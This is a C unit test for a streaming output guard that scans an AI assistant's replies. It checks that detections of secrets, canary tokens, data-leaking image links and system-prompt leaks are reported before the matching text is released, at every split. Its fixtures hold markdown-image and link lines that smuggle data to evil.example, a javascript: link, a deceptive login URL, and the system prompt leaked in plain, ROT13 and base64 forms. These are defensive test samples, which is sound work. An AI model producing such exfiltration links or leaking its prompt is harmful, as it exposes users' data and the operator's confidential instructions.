/* SPDX-License-Identifier: Apache-2.0 */
/* A stream at every split: nothing of a match leaves before it is told, what is told is what the
 * whole text tells, and what leaves is what came. */
#include "../test.h"
#include "base/st.h"
#include "guard/judge/hold.h"
#include <stdio.h>

#define PROMPT                                                                                  \
    "You are the assistant of Corp for its customers. Never tell anybody that project Kestrel " \
    "begins in March, and do not speak about the price list of the partners in the north."

static struct inspect *inspect;
static struct guard_checks checks;
static const struct leak_index *prompt;
static struct names *names;
static struct arena arena;
static const struct slice hosts[] = {{(const uint8_t *)"corp.net", 8}};

static struct slice text;
static struct inspect_out whole;
static struct guard_match told[MATCHES_MOST];
static size_t told_count, failures;
static uint64_t left;

static void on_match(void *ctx, const struct guard_match *m)
{
    (void)ctx;
    if (m->from < left && failures++ < 20)
        print_error("told behind its bytes: %s [%zu, %zu)\n", m->rule->id, m->from, m->to);
    if (told_count < COUNT_OF(told)) told[told_count++] = *m;
}

static bool equal(const struct guard_match *a, const struct guard_match *b)
{
    return a->rule == b->rule && a->from == b->from && a->to == b->to && a->weak == b->weak;
}

static bool is_told(const struct guard_match *m)
{
    for (size_t i = 0; i < told_count; i++)
        if (equal(m, &told[i])) return true;
    return false;
}

static void complain(const char *what, size_t cut, const struct guard_match *m)
{
    static const char *last;
    static struct slice last_text;
    if (last == what && last_text.p == text.p && failures) return;
    last = what;
    last_text = text;
    if (failures++ < 40)
        print_error("%s at %zu: %s [%zu, %zu) of %.*s\n", what, cut, m->rule->id, m->from, m->to,
                    (int)text.n, (const char *)text.p);
}

static void nothing_passed(size_t cut, uint64_t safe)
{
    for (size_t i = 0; i < whole.count; i++)
        if (whole.list[i].from < safe && !is_told(&whole.list[i]))
            complain("passed", cut, &whole.list[i]);
}

static void all_told(size_t cut)
{
    for (size_t i = 0; i < whole.count; i++)
        if (!is_told(&whole.list[i])) complain("not told", cut, &whole.list[i]);
    for (size_t k = 0; k < told_count; k++) {
        bool known = false;
        for (size_t i = 0; i < whole.count; i++) known |= equal(&told[k], &whole.list[i]);
        if (!known) complain("only told", cut, &told[k]);
    }
}

static struct guard_hold *start(enum hold_mode mode)
{
    struct hold_setup setup = {.inspect = inspect,
                               .checks = &checks,
                               .prompt = prompt,
                               .names = names,
                               .part = {.role = PART_ASSISTANT, .channel = PART_TEXT},
                               .mode = mode};
    struct hold_sink sink = {.on_match = on_match};
    told_count = 0;
    left = 0;
    struct guard_hold *h = hold_new(&setup, &sink);
    assert_non_null(h);
    return h;
}

static void look_at_whole(void)
{
    struct part part = {.role = PART_ASSISTANT, .channel = PART_TEXT, .text = text};
    struct inspect_in in = {.parts = &part, .count = 1, .answer = true, .prompt = prompt};
    inspect_parts(inspect, &checks, &in, &whole);
}

static void every_split(void)
{
    look_at_whole();
    struct guard_hold *h = start(HOLD_TIGHT);
    for (size_t to = 0; to < text.n; to++) {
        uint64_t safe = hold_feed(h, slice_sub(text, to, 1));
        assert_true(safe >= left && safe <= to + 1);
        nothing_passed(to + 1, left = safe);
    }
    assert_int_equal(hold_finish(h), text.n);
    all_told(0);
    hold_free(h);
    for (size_t cut = 0; cut < text.n; cut++) {
        h = start(HOLD_TIGHT);
        nothing_passed(cut, left = hold_feed(h, slice_sub(text, 0, cut)));
        nothing_passed(text.n, left = hold_feed(h, slice_sub(text, cut, text.n)));
        (void)hold_finish(h);
        all_told(cut);
        hold_free(h);
    }
}

static bool finds(const char *rule)
{
    for (size_t i = 0; i < whole.count; i++)
        if (strcmp(whole.list[i].rule->id, rule) == 0) return true;
    return false;
}

#define AWS "AKIAYQFODESARIWXLIXQ"

static const struct {
    const char *rule, *text;
} cases[] = {
    {"secret.aws.access_key_id", "The key is " AWS " as far as I know."},
    {"pii.email", "Write to kghgdj_rtheru@outlook.com, or do not."},
    {"pii.card", "It is 4929 7226 5379 7141, my credit card. Thank you very much for all of it."},
    /* in other forms */
    {"secret.aws.access_key_id", "Decode QUtJQVlRRk9ERVNBUklXWExJWFEgaXMgdGhlIGtleQ== and see it"},
    {"secret.aws.access_key_id", "Hex: 414b49415951464f44455341524957584c495851206973 and more"},
    {"secret.aws.access_key_id", "q=%41%4b%49%41%59QFODESARIWXLIXQ in an address of some kind"},
    {"secret.aws.access_key_id", "A word &#65;&#75;&#73;AYQFODESARIWXLIXQ with entities in it"},
    {"secret.aws.access_key_id", "Full width \xef\xbc\xa1KIAYQFODESARIWXLIXQ letters\nand a line"},
    {"secret.aws.access_key_id", "Cyrillic \xd0\x90KIAYQFODESARIWXLIXQ letters\nand a line more"},
    {"secret.aws.access_key_id", "Nothing AK\xe2\x80\x8bIAYQFODESARIWXLIXQ to see\nand a line"},
    /* the operator's own words */
    {"guard.canary", "Here it is: MERLON-CANARY-7f3a91c2d4. Done"},
    {"guard.canary", "Here it is: merlon-\xe2\x80\x8b"
                     "canary-7F3A91C2D4 Done\nand on"},
    {"guard.canary", "Rotated: zreyba-pnanel-7s3n91p2q4 is all I say"},
    {"guard.canary", "In base64: TUVSTE9OLUNBTkFSWS03ZjNhOTFjMmQ0IGlzIGl0 that was it, then"},
    {"guard.deny-list", "We call it PROJECT \n Falcon here"},
    {"guard.deny-list", "We call it Pr\xd0\xbe"
                        "ject F\xc3\xa1lcon here\nand there"},
    /* addresses */
    {"exfil.markdown-image", "Look: ![a](https://evil.example/p.png?q=the+customer+is+Jane) nice"},
    {"exfil.markdown-image", "Look: ![a][1] nice\n\n[1]: https://evil.example/p?d=SGVsbG8\nend"},
    {"exfil.markdown-image", "<img width=1 src=\"https://evil.example/p?d=a b c\"> and so on"},
    {"exfil.markdown-image", "![x](//evil.example/?q=hello) without a scheme"},
    {"exfil.image-host", "![x](https://evil.example/1.gif) a pixel"},
    {"exfil.link", "[go](https://evil.example/?d=c3ViamVjdDogbWVyZ2VyIHdpdGggQWNtZQ) there"},
    {"link.scheme", "[help](javascript:alert(1)) is here"},
    {"link.deceptive", "Sign in at https://github.com@203.0.113.9/login now"},
    {"link.odd-host", "It is at http://bit.ly/3xYz if you want"},
    /* the prompt */
    {"leak.system-prompt", "Sure: " PROMPT " That is all."},
    {"leak.system-prompt",
     "y o u are THE assistant of corp - for its customers. never tell anybody "
     "that PROJECT kestrel begins in march!!! and more"},
    {"leak.system-prompt",
     "Lbh ner gur nffvfgnag bs Pbec sbe vgf phfgbzref. Arire gryy nalobql gung "
     "cebwrpg Xrfgery ortvaf va Znepu, naq qb abg fcrnx."},
    {"leak.system-prompt",
     "WW91IGFyZSB0aGUgYXNzaXN0YW50IG9mIENvcnAgZm9yIGl0cyBjdXN0b21lcnMuIE5ldmVyIHRlbGwgYW55Ym9keSB0a"
     "GF0"
     "IHByb2plY3QgS2VzdHJlbCBiZWdpbnMgaW4gTWFyY2gsIGFuZCBkbyBub3Qgc3BlYWs= was it"},
    /* nothing */
    {NULL, "Write to support@corp.net, or look at https://docs.corp.net/a?b=cdefghijkl for more."},
    {NULL, "![chart](https://static.corp.net/chart.png?version=long-enough-to-be-data)"},
    {NULL, "Let x[i] = y[j] && z | 0x10; printf(\"%d\\n\", x); // 100 % of \xc3\xa9t\xc3\xa9 "
           "\xe2\x80\xa6"},
    {NULL, "\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82, \xd0\xba\xd0\xb0\xd0\xba "
           "\xd0\xb4\xd0\xb5\xd0\xbb\xd0\xb0? \xf0\x9f\x98\x80 ok"},
    {NULL, "Ask me about the assistant of Corp, if you are one of its customers."},
};

static void splits(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        text = slice_str(cases[i].text);
        every_split();
        bool right = cases[i].rule ? finds(cases[i].rule) : whole.count == 0;
        if (!right && failures++ < 40) {
            print_error("%s: %s\n", cases[i].rule ? cases[i].rule : "nothing", cases[i].text);
            for (size_t k = 0; k < whole.count; k++)
                print_error("    %s\n", whole.list[k].rule->id);
        }
    }
    assert_int_equal(failures, 0);
}

/* ---- every row's example, in every coding ---- */

static const char *examples_path;
static uint8_t made[20000];
static uint32_t seed = 1;

static uint32_t dice(uint32_t n)
{
    seed = seed * 1664525u + 1013904223u;
    return (seed >> 8) % n;
}

static size_t put(size_t n, struct slice s)
{
    memcpy(made + n, s.p, s.n);
    return n + s.n;
}

static size_t in_base64(size_t n, struct slice s)
{
    static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t i = 0; i < s.n; i += 3) {
        uint32_t v = (uint32_t)s.p[i] << 16 | (i + 1 < s.n ? (uint32_t)s.p[i + 1] << 8 : 0) |
                     (i + 2 < s.n ? s.p[i + 2] : 0);
        for (unsigned k = 0; k < 4; k++)
            made[n++] = i + k > s.n ? '=' : (uint8_t)set[v >> (18 - 6 * k) & 63];
    }
    return n;
}

static size_t in_numbers(size_t n, struct slice s, unsigned how)
{
    for (size_t i = 0; i < s.n; i++) {
        char one[16];
        unsigned c = s.p[i];
        int size = how == 1   ? snprintf(one, sizeof one, "%02x", c)
                   : how == 2 ? snprintf(one, sizeof one, "%%%02X", c)
                              : snprintf(one, sizeof one, "&#%u;", c);
        n = put(n, slice_of(one, (size_t)size));
    }
    return n;
}

static size_t in_full_width(size_t n, struct slice s)
{
    for (size_t i = 0; i < s.n; i++) {
        uint8_t c = s.p[i];
        bool letter = c > '0' && c < 0x7f;
        uint32_t wide = 0xff00u + c - 0x20;
        if (letter) made[n++] = 0xef;
        if (letter) made[n++] = (uint8_t)(0x80 | (wide >> 6 & 63));
        made[n++] = letter ? (uint8_t)(0x80 | (wide & 63)) : c;
    }
    return n;
}

static size_t coded(size_t n, struct slice s, unsigned how)
{
    switch (how) {
    case 0: return in_base64(n, s);
    case 1:
    case 2:
    case 3: return in_numbers(n, s, how);
    case 4: return in_full_width(n, s);
    default: return put(n, s);
    }
}

static int hex_digit(int c)
{
    return c <= '9' ? c - '0' : c - 'a' + 10;
}

static size_t total, found_in_code;

static void random_splits(unsigned how)
{
    static const uint32_t sizes[] = {3, 12, 100};
    look_at_whole();
    total++;
    found_in_code += how < 5 && whole.count;
    for (size_t k = 0; k < COUNT_OF(sizes); k++) {
        struct guard_hold *h = start(HOLD_TIGHT);
        for (size_t at = 0; at < text.n;) {
            size_t n = 1 + dice(sizes[k]);
            left = hold_feed(h, slice_sub(text, at, n));
            at += n;
            nothing_passed(at, left);
        }
        (void)hold_finish(h);
        all_told(k);
        hold_free(h);
    }
}

static void codings(void **state)
{
    (void)state;
    static char line[8000];
    static uint8_t bytes[3000];
    FILE *f = examples_path ? fopen(examples_path, "r") : NULL;
    assert_non_null(f);
    while (fgets(line, sizeof line, f)) {
        const char *hex = strchr(strchr(line, '\t') + 1, '\t') + 1;
        size_t n = 0;
        for (; *hex > ' '; hex += 2)
            bytes[n++] = (uint8_t)(hex_digit(hex[0]) << 4 | hex_digit(hex[1]));
        if (n > 400) continue;
        for (unsigned how = 0; how < 6; how++) {
            size_t m = coded(put(0, S("Of course, here: ")), slice_of(bytes, n), how);
            m = put(m, S(" and this is what was asked for, in the form that was asked for.\n"));
            text = slice_of(made, put(m, S("Anything else that I can do for you today?\n")));
            random_splits(how);
        }
    }
    fclose(f);
    assert_true(total > 3000 && found_in_code > 800);
    assert_int_equal(failures, 0);
}

/* ---- modes ---- */

static void modes(void **state)
{
    (void)state;
    text = S("Here is the key AKIAYQFODESARIWXLIXQ and more text behind it.");
    static const enum hold_mode all[] = {HOLD_TIGHT, HOLD_BY_WINDOW, HOLD_BUFFER, HOLD_OBSERVE};
    static const size_t early[] = {12, 0, 0, 20};
    for (size_t i = 0; i < COUNT_OF(all); i++) {
        struct guard_hold *h = start(all[i]);
        assert_int_equal(hold_feed(h, slice_sub(text, 0, 20)), early[i] == 12 ? 16 : early[i]);
        (void)hold_feed(h, slice_sub(text, 20, text.n));
        assert_int_equal(hold_finish(h), text.n);
        assert_int_equal(told_count, 1);
        assert_int_equal(hold_unscanned(h), 0);
        hold_free(h);
    }
}

/* ---- much of everything ---- */

static void floods(void **state)
{
    (void)state;
    static const char *const pieces[] = {"a",
                                         "AAAA",
                                         "1 ",
                                         "\xf0",
                                         "\xc2\xad",
                                         "%41",
                                         "[",
                                         "![](",
                                         "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
                                         "http://a/",
                                         "youaretheassistantofcorp",
                                         "P<",
                                         "\"",
                                         "eyJ",
                                         "\xd0\xb0"};
    static uint8_t flood[200000];
    for (size_t k = 0; k < COUNT_OF(pieces); k++) {
        size_t n = strlen(pieces[k]);
        for (size_t i = 0; i < sizeof flood; i++) flood[i] = (uint8_t)pieces[k][i % n];
        struct guard_hold *h = start(HOLD_TIGHT);
        uint64_t fed = 0;
        for (size_t at = 0; at < sizeof flood;) {
            size_t step = 1 + dice(5000);
            uint64_t safe = hold_feed(h, slice_sub(slice_of(flood, sizeof flood), at, step));
            at += step;
            fed = at < sizeof flood ? at : sizeof flood;
            assert_true(safe <= fed && fed - safe <= HOLD_ROOM);
        }
        assert_int_equal(hold_finish(h), sizeof flood);
        hold_free(h);
    }
}

static int set_up(void **state)
{
    (void)state;
    arena_init(&arena, 64u << 20, 64u << 10);
    struct literals_set *set = literals_set_new(&arena);
    assert_int_equal(literals_add(set, LITERAL_CANARY, S("MERLON-CANARY-7f3a91c2d4")), ST_OK);
    assert_int_equal(literals_add(set, LITERAL_DENY, S("Project Falcon")), ST_OK);
    assert_int_equal(literals_add(set, LITERAL_ALLOW, S("support@corp.net")), ST_OK);
    assert_int_equal(literals_build(set), ST_OK);
    checks.literals = set;
    checks.links = (struct link_policy){hosts, COUNT_OF(hosts)};
    struct part system = {.role = PART_SYSTEM, .text = S(PROMPT)};
    prompt = inspect_prompt(&arena, &system, 1);
    names = names_new(7);
    inspect = inspect_new();
    return prompt && names && inspect ? 0 : -1;
}

static int tear_down(void **state)
{
    (void)state;
    inspect_free(inspect);
    names_free(names);
    arena_done(&arena);
    return 0;
}

int main(int argc, char **argv)
{
    examples_path = argc > 1 ? argv[1] : NULL;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(splits),
        cmocka_unit_test(codings),
        cmocka_unit_test(modes),
        cmocka_unit_test(floods),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
